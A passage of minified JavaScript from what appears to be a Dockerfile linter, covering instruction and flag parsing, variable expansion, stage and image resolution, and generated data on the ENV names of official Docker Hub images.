t+1;[s,i]=[i,s]}return s[e.length]}function ae(n,e,t){let s=t??Math.max(1,Math.floor(n.length/3)),i,r=s+1,o=n.toLowerCase();for(let a of e){let c=Ik(o,a.toLowerCase(),r);c<r&&(r=c,i=a)}return i}var Ht=ie(bn());var zs=["ADD","ARG","CMD","COPY","ENTRYPOINT","ENV","EXPOSE","FROM","HEALTHCHECK","LABEL","MAINTAINER","ONBUILD","RUN","SHELL","STOPSIGNAL","USER","VOLUME","WORKDIR"],SR=new Set(zs);function Rt(n){return SR.has(n.toUpperCase())}var Zn={FROM:{platform:"string"},RUN:{mount:"strings",network:"string",security:"string",device:"strings"},COPY:{from:"string",chown:"string",chmod:"string",link:"bool",parents:"bool",exclude:"strings"},ADD:{chown:"string",chmod:"string",link:"bool",checksum:"string","keep-git-dir":"bool",unpack:"bool",exclude:"strings"},HEALTHCHECK:{interval:"string",timeout:"string","start-period":"string","start-interval":"string",retries:"string"}},cl={RUN:new Set(["device"])},Ef=new Set(["ARG","STOPSIGNAL"]),_f=["default","none","host"],$f=["sandbox","insecure"],ol=class{constructor(e,t,s,i){this.text=e;this.end=i;this.docStart=s.length?s[0]:i,t.length>1&&(this.runAt=t.slice(),this.docAt=s.slice())}text;end;docStart;runAt;docAt;offset(e){return e>=this.text.length?this.end:this.runAt?Cf(this.runAt,this.docAt,e):this.docStart+e}get contiguous(){let e=this.text.length;return e===0||!this.runAt&&this.end===this.docStart+e}},al=class{constructor(e,t,s,i){this.line=e;this.flags=t;this.restStart=s;this.escape=i}line;flags;restStart;escape;_words;get rest(){return this.line.text.slice(this.restStart).trim()}get words(){return this._words??=NR(this.line.text,this.restStart,this.escape)}get contiguous(){return this.line.contiguous}};function qt(n){return n===" "||n==="	"||n==="\v"||n==="\f"||n==="\xA0"}function rl(n){return n===`
`||n==="\r"}function Cf(n,e,t){let s=0,i=n.length-1;for(;s<i;){let r=s+i+1>>1;n[r]<=t?s=r:i=r-1}return e[s]+(t-n[s])}function MR(n,e){let t=n.text,s=n.escape,i=n.lines.offsetAt(e.keywordRange.end),r=Math.max(i,n.lines.offsetAt(e.range.end)),o=[],a=[],c=[],l=0,u=i,p=m=>{m<=u||(o.push(t.slice(u,m)),a.push(l),c.push(u),l+=m-u)},d=m=>{for(;a.length&&a[a.length-1]>=m;)a.pop(),c.pop();l=m};for(;i<r;){let m=t[i];if(!rl(m)){i++;continue}let g=i-1;for(;g>=u&&(t[g]===" "||t[g]==="	");)g--;if(g>=u){if(t[g]!==s)break;p(g)}else{p(i);let w=o.join(""),v=w.length-1;for(;v>=0&&(w[v]===" "||w[v]==="	");)v--;if(v<0||w[v]!==s){u=i;break}o.length=0,o.push(w.slice(0,v)),d(v)}for(i+=m==="\r"&&t[i+1]===`
`?2:1;;){let w=i;for(;w<r&&qt(t[w]);)w++;if(w<r&&(rl(t[w])||t[w]==="#")){for(;w<r&&!rl(t[w]);)w++;if(w>=r){i=w;break}i=w+(t[w]==="\r"&&t[w+1]===`
`?2:1);continue}break}u=i}p(i);let f=o.join(""),h=f.length-1;for(;h>=0&&(f[h]===" "||f[h]==="	");)h--;return h>=0&&f[h]===s&&i>=t.length&&(f=f.slice(0,h),i=Cf(a,c,h),d(h)),new ol(f,a,c,i)}function AR(n,e){let t=[],s=e;for(;;){for(;s<n.length&&qt(n[s]);)s++;if(s>=n.length||n[s]!=="-"||n[s+1]!=="-")return{flags:t,restStart:s};let i=s,r="",o="",a=-1;for(;s<n.length;){let u=n[s];if(o){u===o?o="":u==="\\"&&s+1<n.length?r+=n[++s]:r+=u,s++;continue}if(qt(u))break;u==="'"||u==='"'?o=u:u==="\\"&&s+1<n.length?r+=n[++s]:(u==="="&&a<0&&(a=s),r+=u),s++}if(r==="--")return{flags:t,restStart:s};let c=r.slice(2),l=c.indexOf("=");t.push({name:l>=0?c.slice(0,l):c,value:l>=0?c.slice(l+1):void 0,start:i,end:s,nameEnd:a>=0?a:s})}}function Df(n,e){for(let t=e;t<n.length;t++)if(!qt(n[t]))return!0;return!1}function NR(n,e,t){let s=[],i=e;for(;i<n.length;){for(;i<n.length&&qt(n[i]);)i++;if(i>=n.length)break;let r=i,o="";for(;i<n.length;){let a=n[i];if(o){a===o?o="":a===t&&o!=="'"&&i+1<n.length&&i++,i++;continue}if(qt(a))break;a==="'"||a==='"'?o=a:a===t&&i+1<n.length&&i++,i++}s.push({raw:n.slice(r,i),start:r,end:i})}return s}var ER=Object.freeze([]);function re(n,e){return n.memoizeAt("syntax:ins",e.index,()=>{let t=MR(n,e),{flags:s,restStart:i}=AR(t.text,0);return new al(t,s.length?s:ER,i,n.escape)})}function X(n,e,t,s){let i=e.offset(t),r=s>t?e.offset(s-1)+1:i;return n.lines.range(i,r)}function to(n){return n.memoize("syntax:copyFrom",()=>{let e=[];for(let t of n.instructions){if(t.keyword!=="COPY"||!t.stage)continue;let s=re(n,t),i=s.flags.find(o=>o.name==="from"),r=i?.value;!i||!r||r.includes("$")||e.push({ins:t,value:r,range:X(n,s.line,i.nameEnd+1,i.end)})}return e})}function Ff(n){return pl(n).some(e=>e.name==="syntax"&&/labs/i.test(e.value))}function Nf(n,e){let t=e;for(;t<n.length&&qt(n[t]);)t++;let s=n.length;for(;s>t&&qt(n[s-1]);)s--;if(n[t]!=="[")return{kind:"shell"};let i=n.slice(t,s),r;try{r=JSON.parse(i)}catch(c){return{kind:"invalid",start:t,end:s,error:c.message}}if(!Array.isArray(r))return{kind:"invalid",start:t,end:s,error:"not an array"};if(!r.every(c=>typeof c=="string"))return{kind:"notStrings",start:t,end:s};let o=[],a=t+1;for(;a<s;){if(n[a]==='"'){let l=a;for(a++;a<s&&n[a]!=='"';)a+=n[a]==="\\"?2:1;a++,o.push({value:JSON.parse(n.slice(l,a)),start:l,end:a});continue}a++}return{kind:"json",elements:o,start:t,end:s}}function Ne(n,e){return n.memoizeAt("syntax:exec",e.index,()=>{let t=re(n,e);if(e.keyword==="HEALTHCHECK"){let s=t.words[0];return!s||s.raw.toUpperCase()!=="CMD"?{kind:"shell"}:Nf(t.line.text,s.end)}return Nf(t.line.text,t.restStart)})}var ll=new Set(["syntax","escape","check"]),_R=/^(\s*#\s*)([a-zA-Z][a-zA-Z0-9]*)(\s*=\s*)(.+?)\s*$/;function ul(n){let e=_R.exec(n);if(e)return{name:e[2].toLowerCase(),value:e[4],valueStart:e[1].length+e[2].length+e[3].length}}function pl(n){return n.memoize("syntax:directives",()=>{let e=[];for(let t=0;t<n.lines.lineCount;t++){let s=n.lines.lineText(t),i=0;t===0&&s.charCodeAt(0)===65279&&(s=s.slice(1),i=1);let r=ul(s);if(!r||!ll.has(r.name))break;e.push({name:r.name,value:r.value,line:t,valueStart:r.valueStart+i,valueEnd:r.valueStart+i+r.value.length})}return e})}var $R={ns:1,us:1e3,\u00B5s:1e3,\u03BCs:1e3,ms:1e6,s:1e9,m:6e10,h:36e11};function Tf(n){let e=n,t=1;if((e.startsWith("-")||e.startsWith("+"))&&(e[0]==="-"&&(t=-1),e=e.slice(1)),e==="0")return{ns:0};if(e==="")return{error:`invalid duration "${n}"`};let s=0;for(;e;){let i=/^(\d*)(?:\.(\d*))?/.exec(e);if(!i[0]||i[0]==="."||i[1]===""&&(i[2]??"")==="")return{error:`invalid duration "${n}"`};e=e.slice(i[0].length);let r=/^[^\d.]+/.exec(e);if(!r)return{error:`missing unit in duration "${n}"`};let o=r[0],a=$R[o];if(a===void 0)return{error:`unknown unit "${o}" in duration "${n}"`};e=e.slice(o.length),s+=+`${i[1]||"0"}.${i[2]||"0"}`*a}return{ns:t*s}}function CR(n,e){let t=n.length,s=e.length,i=Array.from({length:s+1},(o,a)=>a),r=i;for(let o=1;o<=t;o++){let a=[o];for(let c=1;c<=s;c++)a[c]=Math.min(i[c]+1,a[c-1]+1,i[c-1]+(n[o-1]===e[c-1]?0:1)),o>1&&c>1&&n[o-1]===e[c-2]&&n[o-2]===e[c-1]&&(a[c]=Math.min(a[c],r[c-2]+1));r=i,i=a}return i[s]}function He(n,e){let t=n.toLowerCase(),s=t.length<=3?1:t.length<=6?2:3,i,r=1/0,o=!1;for(let a of e){let c=CR(t,a.toLowerCase());c<r?(i=a,r=c,o=!1):c===r&&(o=!0)}return i!==void 0&&r<=s&&!o?i:void 0}function Qn(n){let e=[],t=0;for(;t<n.length;){for(;t<n.length&&/\s/.test(n[t]);)t++;if(t>=n.length)break;let s="";for(;t<n.length&&!/\s/.test(n[t]);){let i=n[t];if(i==="'"){let r=n.indexOf("'",t+1);if(r<0)return;s+=n.slice(t+1,r),t=r+1}else if(i==='"'){let r=n.indexOf('"',t+1);if(r<0)return;let o=n.slice(t+1,r);if(/[$`\\]/.test(o))return;s+=o,t=r+1}else{if(/[$`\\&|;<>()*?[\]{}~#!]/.test(i))return;s+=i,t++}}e.push(s)}if(!(e.length&&/^[A-Za-z_][A-Za-z0-9_]*=/.test(e[0])))return e.length?e:void 0}function no(n){return"["+n.map(e=>JSON.stringify(e)).join(", ")+"]"}var dl={version:1,about:'ENV names defined by official Docker Hub images, by repository (tags merged). Generated by scripts/gen-image-env.mjs from the official-image Dockerfiles of the shared corpus (dockerfiles/); do not edit: "manual" is copied from image-env.manual.json.',images:{"buildpack-deps":{env:[],complete:!0,from:["buildpack-deps","debian","ubuntu"],sources:["docker-library__buildpack-deps/debian__bookworm/Dockerfile","docker-library__buildpack-deps/debian__bookworm__curl/Dockerfile","docker-library__buildpack-deps/debian__bookworm__scm/Dockerfile","docker-library__buildpack-deps/debian__bullseye__curl/Dockerfile","docker-library__buildpack-deps/debian__trixie/Dockerfile","docker-library__buildpack-deps/debian__trixie__curl/Dockerfile","docker-library__buildpack-deps/debian__trixie__scm/Dockerfile","docker-library__buildpack-deps/ubuntu__jammy/Dockerfile","docker-library__buildpack-deps/ubuntu__noble/Dockerfile","docker-library__buildpack-deps/ubuntu__noble__curl/Dockerfile","docker-library__buildpack-deps/ubuntu__noble__scm/Dockerfile"]},golang:{env:["GOLANG_VERSION","GOPATH","GOTOOLCHAIN","PATH"],complete:!0,from:["alpine","buildpack-deps"],sources:["docker-library__golang/1.26__alpine3.23/Dockerfile","docker-library__golang/1.26__alpine3.24/Dockerfile","docker-library__golang/1.26__bookworm/Dockerfile","docker-library__golang/1.26__trixie/Dockerfile","docker-library__golang/1.27__alpine3.24/Dockerfile","docker-library__golang/1.27__trixie/Dockerfile","docker-library__golang/tip__trixie/Dockerfile"]},nginx:{env:["DYNPKG_RELEASE","NGINX_VERSION","NJS_RELEASE","NJS_VERSION","OTEL_VERSION","PKG_RELEASE"],complete:!0,from:["alpine","debian","nginx"],sources:["nginxinc__docker-nginx/mainline__alpine/Dockerfile","nginxinc__docker-nginx/mainline__alpine-otel/Dockerfile","nginxinc__docker-nginx/mainline__alpine-perl/Dockerfile","nginxinc__docker-nginx/mainline__alpine-slim/Dockerfile","nginxinc__docker-nginx/mainline__debian/Dockerfile","nginxinc__docker-nginx/mainline__debian-otel/Dockerfile","nginxinc__docker-nginx/mainline__debian-perl/Dockerfile","nginxinc__docker-nginx/modules/Dockerfile","nginxinc__docker-nginx/modules__Dockerfile.alpine/Dockerfile","nginxinc__docker-nginx/stable__alpine/Dockerfile","nginxinc__docker-nginx/stable__debian/Dockerfile"]},node:{env:["NODE_VERSION","YARN_VERSION"],complete:!0,from:["alpine","buildpack-deps","debian"],sources:["nodejs__docker-node/22__alpine3.23/Dockerfile","nodejs__docker-node/22__bullseye-slim/Dockerfile","nodejs__docker-node/24__alpine3.23/Dockerfile","nodejs__docker-node/24__alpine3.24/Dockerfile","nodejs__docker-node/24__bookworm/Dockerfile","nodejs__docker-node/24__bookworm-slim/Dockerfile","nodejs__docker-node/24__bullseye/Dockerfile","nodejs__docker-node/24__bullseye-slim/Dockerfile","nodejs__docker-node/24__trixie/Dockerfile","nodejs__docker-node/24__trixie-slim/Dockerfile","nodejs__docker-node/26__trixie-slim/Dockerfile"]},python:{env:["GPG_KEY","LANG","PATH","PYTHON_SHA256","PYTHON_VERSION"],complete:!0,from:["alpine","buildpack-deps","debian"],sources:["docker-library__python/3.10__slim-bookworm/Dockerfile","docker-library__python/3.13__alpine3.24/Dockerfile","docker-library__python/3.13__slim-bookworm/Dockerfile","docker-library__python/3.13__trixie/Dockerfile","docker-library__python/3.14__alpine3.23/Dockerfile","docker-library__python/3.14__alpine3.24/Dockerfile","docker-library__python/3.14__bookworm/Dockerfile","docker-library__python/3.14__slim-bookworm/Dockerfile","docker-library__python/3.14__slim-trixie/Dockerfile","docker-library__python/3.14__trixie/Dockerfile"]}},manual:{alpine:{env:[],complete:!0,source:"https://github.com/alpinelinux/docker-alpine (FROM scratch, ADD of the root filesystem, CMD; no ENV)"},busybox:{env:[],complete:!0,source:"https://github.com/docker-library/busybox (FROM scratch, ADD of the root filesystem, CMD; no ENV)"},debian:{env:[],complete:!0,source:"https://github.com/debuerreotype/docker-debian-artifacts (FROM scratch, ADD of the root filesystem, CMD; no ENV)"},"eclipse-temurin":{env:["JAVA_HOME","JAVA_VERSION","LANG","LANGUAGE","LC_ALL","PATH"],complete:!1,source:"https://github.com/adoptium/containers/blob/main/21/jdk/ubuntu/noble/Dockerfile (FROM ubuntu:24.04); not complete: the ubi variants are built FROM redhat/ubi*-minimal, whose environment is not recorded here"},ubuntu:{env:[],complete:!0,source:"https://git.launchpad.net/cloud-images/+oci/ubuntu-base (FROM scratch, ADD of the root filesystem, CMD; no ENV)"}},skipped:["docker-library__golang/1.26__windows__nanoserver-ltsc2022/Dockerfile: Windows variant (FROM mcr.microsoft.com/windows/nanoserver:ltsc2022)","docker-library__golang/1.26__windows__windowsservercore-ltsc2025/Dockerfile: Windows variant (FROM mcr.microsoft.com/windows/servercore:ltsc2025)","docker-library__python/3.14__windows__windowsservercore-ltsc2022/Dockerfile: Windows variant (FROM mcr.microsoft.com/windows/servercore:ltsc2022)"]};var Lf=new Map;for(let n of[dl.images,dl.manual])for(let[e,t]of Object.entries(n))Lf.set(e,{repository:e,names:new Set(t.env),complete:t.complete});var FR=/windows|nanoserver|servercore|ltsc/i;function If(n){let e=n.trim().toLowerCase().replace(/@.*$/,""),t=/:([^/:]*)$/.exec(e)?.[1]??"";if(FR.test(t))return;let s=e.slice(0,e.length-(t?t.length+1:0)).replace(/^(?:docker\.io|index\.docker\.io|registry-1\.docker\.io)\//,"").replace(/^library\//,"");if(!(!s||s.includes("/")||s.includes("$")))return Lf.get(s)}var fl={BUILDPLATFORM:"linux/amd64",BUILDOS:"linux",BUILDARCH:"amd64",BUILDVARIANT:"",TARGETPLATFORM:"linux/amd64",TARGETOS:"linux",TARGETARCH:"amd64",TARGETVARIANT:""},TR=new Set(["HTTP_PROXY","HTTPS_PROXY","FTP_PROXY","NO_PROXY","ALL_PROXY"].flatMap(n=>[n,n.toLowerCase()]));function so(n){return TR.has(n)||n.startsWith("BUILDKIT_")||n==="SOURCE_DATE_EPOCH"}function es(n,e){return n.memoizeAt("logical",e.index,()=>{let t=n.escape,s=e.keywordRange.end,i=s.line,r=n.lines.lineText(i).slice(s.character),o="",a=[],c=Math.max(e.range.end.line,i);for(;;){let l=LR(r,t);if(l<0){o+=r;break}o+=r.slice(0,l);let u=i+1;for(;u<=c;){let p=n.lines.lineText(u);if(/^\s*$/.test(p))a.push(u),u++;else if(/^\s*#/.test(p))u++;else break}if(u>c||u>=n.lines.lineCount){i=Math.min(u,c);break}i=u,r=n.lines.lineText(i)}return{args:o,endLine:i,emptyContinuationLines:a}})}function LR(n,e){let t=n.length;for(;t>0&&(n[t-1]===" "||n[t-1]==="	");)t--;if(t===0||n[t-1]!==e)return-1;let s=0;for(let i=t-1;i>=0&&n[i]===e;i--)s++;return s%2===1?t-1:-1}function io(n,e){let t=[],s="",i="",r=!1;for(let o=0;o<n.length;o++){let a=n[o];if(r){s+=a,r=!1;continue}if(a===e){r=!0,s+=a;continue}if(i){a===i&&(i=""),s+=a;continue}if(a==='"'||a==="'"){i=a,s+=a;continue}if(a===" "||a==="	"){s&&t.push(s),s="";continue}s+=a}return s&&t.push(s),t}function ts(n,e){return n.memoizeAt("words",e.index,()=>{let t=io(es(n,e).args,n.escape),s=re(n,e).flags,i=[],r=0;for(;r<t.length;r++){let o=t[r];if(!o.startsWith("--")||o==="--")break;let a=o.indexOf("="),c=s[r];c?i.push({name:c.name,value:c.value}):i.push(a<0?{name:o.slice(2),value:void 0}:{name:o.slice(2,a),value:o.slice(a+1)})}return{flags:i,words:t.slice(r)}})}function Ye(n,e){return n.memoizeAt("kv",e.index,()=>{let t=es(n,e).args.trim(),s=io(t,n.escape);if(e.keyword==="ARG")return{pairs:s.map(r=>{let o=r.indexOf("=");return o<0?{key:r,value:void 0}:{key:r.slice(0,o),value:r.slice(o+1)}}),legacy:!1};if(s.length===0)return{pairs:[],legacy:!1};if(!s[0].includes("=")){let r=s[0],o=t.slice(t.indexOf(r)+r.length).trim();return{pairs:[{key:r,value:o}],legacy:!0}}let i=[];for(let r of s){let o=r.indexOf("=");o<0?i.push({key:r,value:void 0}):i.push({key:r.slice(0,o),value:r.slice(o+1)})}return{pairs:i,legacy:!1}})}function st(n,e){return it(n,()=>{},e).result}function Ut(n,e){if(!/["'$]/.test(n)&&!n.includes(e))return{value:n,dynamic:!1};let t=it(n,()=>{},e,!0);return{value:t.result,dynamic:t.refs.length>0}}function it(n,e,t,s=!1){let i=[],r=0,o=!1,a=()=>r<n.length?n[r]:"";function c(g,w){let v=e(g);return i.push({name:g,modifier:w,found:v!==void 0}),v}function l(){let g="";for(;r<n.length;){let w=n[r];if(g===""&&/[0-9]/.test(w)){for(;r<n.length&&/[0-9]/.test(n[r]);)g+=n[r++];return g}if(g===""&&"@*#?-$!0".includes(w))return r++,w;if(!/[\p{L}\p{N}_]/u.test(w))break;g+=w,r++}return g}function u(){if(!s)return p();let g=r;return p(),n.slice(g,r)}function p(){if(r++,a()!=="{"){let A=l();return A===""?"$":/^[A-Za-z_]/.test(A)?c(A,"")??"":""}r++;let g=a();if(g===""||g==="{"||g==="}"||g===":")return o=!0,"";let w=l(),v=n[r++]??"";if(v==="}")return c(w,"")??"";let O=v,S=!1;if(v===":"&&(S=!0,v=n[r++]??"",O+=v),"+-?#%".includes(v)&&v!==""){let A=h("}"),C=c(w,O),E=C!==void 0;switch(v){case"-":return!E||S&&C===""?A:C;case"+":return!E||S&&C===""?"":A;case"?":return C??"";default:return C??""}}return v==="/"&&!S?(a()==="/"&&r++,h("/"),h("}"),c(w,"/")??""):(o=!0,"")}function d(){r++;let g=n.indexOf("'",r);if(g<0){o=!0;let v=n.slice(r);return r=n.length,v}let w=n.slice(r,g);return r=g+1,w}function f(){r++;let g="";for(;;){let w=a();if(w==="")return o=!0,g;if(w==='"')return r++,g;if(w==="$"){g+=u();continue}if(r++,w===t){let v=a();if(v==="")continue;if(v==='"'||v==="$"||v===t){g+=v,r++;continue}}g+=w}}function h(g){let w="";for(;r<n.length;){let v=n[r];if(g&&v===g)return r++,w;if(v==="$")w+=u();else if(v==="'")w+=d();else if(v==='"')w+=f();else if(r++,v===t){if(r>=n.length)break;w+=n[r++]}else w+=v}return g&&(o=!0),w}return{result:h(""),refs:i,error:o}}function ro(n){let e=[];for(let t of n.refs)t.found||t.modifier&&t.modifier!=="#"&&t.modifier!=="%"&&t.modifier!=="/"||e.includes(t.name)||e.push(t.name);return e}function IR(n,e){if(n===e)return 0;let t=new Array(e.length+1);for(let s=0;s<=e.length;s++)t[s]=s;for(let s=1;s<=n.length;s++){let i=t[0];t[0]=s;for(let r=1;r<=e.length;r++){let o=t[r];t[r]=Math.min(t[r]+1,t[r-1]+1,i+(n[s-1]===e[r-1]?0:1)),i=o}}return t[e.length]}function oo(n,e,t=!0){let s=t?n:n.toLowerCase(),i,r=3;for(let o of e){let a=t?o:o.toLowerCase();if(a===s)return;let c=IR(s,a);c<r&&(r=c,i=o)}return i}function Ks(n){return n.memoize("scope:globals",()=>{let e=new Map;for(let s of n.preamble)if(s.keyword==="ARG")for(let i of Ye(n,s).pairs){let r=st(i.key,n.escape);if(!r)continue;let o=i.value===void 0?void 0:it(i.value,a=>Pf(e,a),n.escape).result;e.set(r,o)}let t=new Set([...Object.keys(fl),...e.keys()]);return{declared:e,names:t}})}function Pf(n,e){return n.has(e)?n.get(e)??"":e in fl?fl[e]:void 0}function Rn(n){let e=Ks(n);return t=>Pf(e.declared,t)}function PR(n,e){let t=e.imageValue??"";return t.includes("$")?it(t,Rn(n),n.escape).result:t}function ao(n){return n.memoize("scope:stages",()=>{let e=[];for(let t of n.stages){let s=t.imageValue??"",i=s&&!s.includes("$")?n.findStage(s):void 0,r=i&&i.index<t.index?e[i.index]:void 0,o=PR(n,t),a=o.replace(/[@].*$/,"").replace(/:[^/:]*$/,"").toLowerCase(),c=r?r.windows:/windows|nanoserver|servercore/.test(a)||t.instructions.some(d=>d.keyword==="SHELL"&&/powershell|pwsh|cmd/i.test(d.rawArgsContent??"")),l=r?r.image:c?void 0:If(o),u=r?r.baseKnown:a==="scratch"||(l?.complete??!1),p=new Map;for(let d of t.instructions)if(!(d.keyword!=="ARG"&&d.keyword!=="ENV"))for(let f of Ye(n,d).pairs){let h=st(f.key,n.escape);h&&!p.has(h)&&p.set(h,d.index)}e.push({stage:t,parent:r,defs:p,baseKnown:u,image:l,windows:c})}return{byStage:e}})}function jR(n,e,t){for(let s=n;s;s=s.parent){let i=s.defs.get(e);if(i!==void 0&&(s!==n||i<t))return!0;if(n.windows){let r=e.toLowerCase();for(let[o,a]of s.defs)if(o.toLowerCase()===r&&(s!==n||a<t))return!0}}return!n.windows&&e==="PATH"?!0:n.image?.names.has(e)??!1}function jf(n,e){let t=new Set;for(let s=n;s;s=s.parent)for(let[i,r]of s.defs)(s!==n||r<e)&&t.add(i);n.windows||t.add("PATH");for(let s of n.image?.names??[])t.add(s);return[...t]}function qf(n,e){return t=>jR(n,t,e)?"":void 0}function co(n,e){return e&&e.start.line===n.range.start.line?e:n.keywordRange}var Uf=new Set(["ADD","ARG","CMD","COPY","ENTRYPOINT","ENV","EXPOSE","FROM","HEALTHCHECK","LABEL","MAINTAINER","ONBUILD","RUN","SHELL","STOPSIGNAL","USER","VOLUME","WORKDIR"]);function Te(n,e){return n.memoizeAt("from",e.index,()=>{let{flags:t,words:s}=ts(n,e.fromInstruction),i=t.find(a=>a.name.toLowerCase()==="platform")?.value,r=e.fromInstruction.args,o=r.length>=3&&r[1].getValue().toLowerCase()==="as"?r[1]:void 0;return{image:s[0],asWord:o?.getValue(),asRange:o?.getRange(),name:s.length>=3&&s[1].toLowerCase()==="as"?s[2]:void 0,platform:i}})}function rt(n,e={}){let t=`image:refs:${JSON.stringify(e)}`;return n.memoize(t,()=>{let s=qR(n,e),i=[];for(let r of n.stages){let o=r.imageRange,a=r.image??"";if(!o||!a)continue;let c={stage:r,ins:r.fromInstruction,written:a,range:o,scratch:!1,substituted:!1},l=r.imageValue??a,u=l.includes("$")?Hf(l,s):l;if(c.substituted=l.includes("$"),u!==void 0){c.resolved=u;let p=u.toLowerCase();c.stageRef=n.stageNamedBefore(p,r.index),c.stageRef||Object.assign(c,hl(u)),c.scratch=!c.stageRef&&p==="scratch"}i.push(c)}return i})}function hl(n){let e=n,t,s=e.indexOf("@");s>=0&&(t=e.slice(s+1),e=e.slice(0,s));let i,r=e.lastIndexOf(":");r>e.lastIndexOf("/")&&(i=e.slice(r+1),e=e.slice(0,r));let o,a=e.indexOf("/");if(a>0){let c=e.slice(0,a);(c.includes(".")||c.includes(":")||c==="localhost")&&(o=c,e=e.slice(a+1))}return{registry:o,path:e,tag:i,digest:t}}function qR(n,e){let t=new Map;for(let s of n.preamble)if(s.keyword==="ARG")for(let i of s.args){let r=i.getValue(),o=r.indexOf("="),a=o<0?r:r.slice(0,o),c=o<0?void 0:Ut(r.slice(o+1),n.escape).value;c!==void 0&&c.includes("$")&&(c=Hf(c,t)),t.set(a,c)}for(let[s,i]of Object.entries(e))t.has(s)&&t.set(s,i);return t}function Hf(n,e){let t="",s=!1,i=/\$(?:\{([A-Za-z_][A-Za-z0-9_]*)(?:(:?[-+])([^}]*))?\}|([A-Za-z_][A-Za-z0-9_]*))/g,r=0;for(let o=i.exec(n);o;o=i.exec(n)){t+=n.slice(r,o.index),r=o.index+o[0].length;let a=o[1]??o[4],c=o[2],l=e.get(a),u=l!==void 0&&(c?.startsWith(":")?l!=="":!0);c==="-"||c===":-"?t+=u?l:o[3]:c==="+"||c===":+"?t+=u?o[3]:"":l===void 0?s=!0:t+=l}return t+=n.slice(r),s?void 0:t}var ml=class{constructor(e,t,s,i,r,o,a){this.model=e;this.node=t;this.keyword=s;this.written=i;this.range=r;this.keywordRange=o;this.index=a}model;node;keyword;written;range;keywordRange;index;stage=void 0;_args;_argValues;_argsRange;_rawArgs;_argsContent;_heredocs;_variables;_properties;get args(){return this._args??=this.node.getArguments()}get argValues(){if(this._argValues)return this._argValues;let e=this.model.escape;return this._argValues=this.args.map(t=>{let s=this.model.textOf(t.getRange());return Ut(/[\r\n]/.test(s)?t.getValue():s,e).value})}get argsRange(){if(this._argsRange!==void 0)return this._argsRange;let e=this.model.argumentsRangeOf(this);if(e!==void 0)return this._argsRange=e;let t=this.args;return this._argsRange=t.length?{start:t[0].getRange().start,end:t[t.length-1].getRange().end}:null}get rawArgsContent(){if(this._rawArgs!==void 0)return this._rawArgs;let e=this.argsRange;return this._rawArgs=e?this.model.textOf(e):null}get argsContent(){return this._argsContent!==void 0?this._argsContent:this._argsContent=this.node.getArgumentsContent()}get flags(){return this.node instanceof Ht.ModifiableInstruction?this.node.getFlags():UR}get jsonStrings(){return this.node instanceof Ht.JSONInstruction?this.node.getJSONStrings():HR}get heredocs(){if(this._heredocs)return this._heredocs;let e=Yf,t=this.node;if(typeof t.getHeredocs=="function"&&this.model.textOf(this.range).includes("<"))try{e=t.getHeredocs()}catch{e=Yf}return this._heredocs=e}get variables(){if(this._variables)return this._variables;let e=!0;for(let t=this.range.start.line;e&&t<=this.range.end.line;t++)e=this.model.resolvesVariablesAt(t);return this._variables=e?this.node.getVariables():WR}get properties(){return this._properties??=this.node instanceof Ht.PropertyInstruction?this.node.getProperties():YR}},UR=Object.freeze([]),HR=Object.freeze([]),Yf=Object.freeze([]),YR=Object.freeze([]),WR=Object.freeze([]),Wf=Symbol("unset"),BR=/^[A-Za-z0-9._-]+$/,gl=class{constructor(e,t,s){this.index=e;this.from=t;this.fromInstruction=s;let i=s.args;i.length>2&&i[1].getValue().toUpperCase()==="AS"&&(this.nameRange=i[2].getRange(),this.name=s.model.textOf(this.nameRange)||void 0)}index;from;fromInstruction;name;nameRange;instructions=[];_imageName;_platform;get image(){let e=this.fromInstruction.args;return e.length?e[0].getValue():null}get imageValue(){let e=this.fromInstruction.argValues;return e.length?e[0]:null}get imageRange(){let e=this.fromInstruction.args;return e.length?e[0].getRange():null}get imageName(){if(this._imageName!==void 0)return this._imageName;let e=this.imageValue;return e===null?this._imageName=this.from.getImageName():BR.test(e)?this._imageName=e:this._imageName=e===this.image?this.from.getImageName():hl(e).path}get platformFlag(){return this._platform!==void 0?this._platform:this._platform=this.from.getPlatformFlag()}},ns=class{constructor(e){this.text=e;this.lines=new Vn(e),this.ast=Ht.DockerfileParser.parse(e),this.escape=this.ast.getEscapeCharacter(),this.comments=this.ast.getComments(),this.directives=this.ast.getDirectives();let t;for(let s of this.ast.getInstructions()){let i=s.getKeyword(),r=new ml(this,s,i,s.getInstruction(),s.getRange(),s.getInstructionRange(),this.instructions.length);i==="FROM"&&(t=new gl(this.stages.length,s,r),this.stages.push(t)),r.stage=t,t?t.instructions.push(r):this.preamble.push(r),this.instructions.push(r)}this.checkDirective=GR(this)}text;ast;lines;escape;instructions=[];stages=[];preamble=[];comments;directives;checkDirective;memo=new Map;memoTables=new Map;argumentsRangeOf(e){let t=this.text,s=this.lines,i=this.escape.charCodeAt(0),r=s.offsetAt(e.range.end),o=s.offsetAt(e.range.start);for(let d=o;d<r;d++){let f=t.charCodeAt(d);if(f===13&&t.charCodeAt(d+1)!==10)return;if(f===10||f===13){let h=d+1;for(;h<r&&(t.charCodeAt(h)===32||t.charCodeAt(h)===9);)h++;if(h<r&&t.charCodeAt(h)===i)return}}let a=(d,f)=>{for(;;){for(;d<f&&(t.charCodeAt(d)===32||t.charCodeAt(d)===9);)d++;if(d>=f||t.charCodeAt(d)!==i)return d;let h=d+1;for(;h<f&&(t.charCodeAt(h)===32||t.charCodeAt(h)===9);)h++;let m=t.charCodeAt(h);if(h>=f||m!==10&&m!==13)return d;for(d=h+(m===13&&t.charCodeAt(h+1)===10?2:1);;){let g=d;for(;g<f&&(t.charCodeAt(g)===32||t.charCodeAt(g)===9);)g++;let w=t.charCodeAt(g);if(g<f&&(w===35||w===10||w===13)){for(;g<f&&t.charCodeAt(g)!==10;)g++;d=g+1;continue}break}}},c=r;for(let d=t.charCodeAt(c-1);c>0&&(d===32||d===9||d===10||d===13);d=t.charCodeAt(c-1))c--;if(c>0&&t.charCodeAt(c-1)===i)return;let l=c;for(;l>0&&t.charCodeAt(l-1)!==10&&t.charCodeAt(l-1)!==13;)l--;for(;l<c&&(t.charCodeAt(l)===32||t.charCodeAt(l)===9);)l++;if(t.charCodeAt(l)===35&&l>s.offsetAt(e.range.start))return;let u=s.offsetAt(e.keywordRange.end);for(let d of e.flags){let f=d.getRange();if(u=a(u,c),s.offsetAt(f.start)!==u||(u=s.offsetAt(f.end),t.slice(s.offsetAt(f.start),u).includes(this.escape)))return}let p=a(u,c);if(!(p<c&&t.charCodeAt(p)===i))return p<c?s.range(p,c):null}resolvesVariablesAt(e){return this.memoizeAt("resolvesVariablesAt",e,()=>{for(let t of this.stages){let 